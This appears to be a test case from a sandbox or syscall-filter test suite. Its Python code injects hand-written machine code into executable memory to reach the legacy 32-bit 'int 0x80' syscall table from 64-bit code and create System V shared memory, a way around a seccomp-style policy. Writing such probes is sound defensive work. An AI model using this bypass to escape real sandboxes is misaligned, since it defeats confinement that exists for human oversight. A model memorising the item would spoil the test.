# id: own_kernel_int80_ipc
# category: kernel
# source: own
# flags: -
# expect: HELD
# level: policy
# sanity: ESCAPED
# opts: arch=x86_64
# setup: base world
# prelude: attack
import mmap
def int80(nr, a, b, c=0):  # the 32-bit call table from 64-bit code
    m = mmap.mmap(-1, 4096, prot=7); m.write(bytes.fromhex("5389f889f387d131f6cd805bc3"))
    at = ctypes.addressof(ctypes.c_char.from_buffer(m))
    r = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(at)(nr, a, b, c)
    if -4096 < r < 0: raise OSError(-r, "int 0x80")
    return r
def low(data):  # its pointers have 32 bits
    libc.mmap.restype = ctypes.c_void_p
    p = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x62, -1, ctypes.c_long(0))
    ctypes.memmove(p, data, len(data))
    return p

def attack():  # one number for all of System V's objects
    id = int80(117, 23, 0, 4096); sc(31, 195, id, 0, None)
    return "made shared memory %d" % id
run(attack)
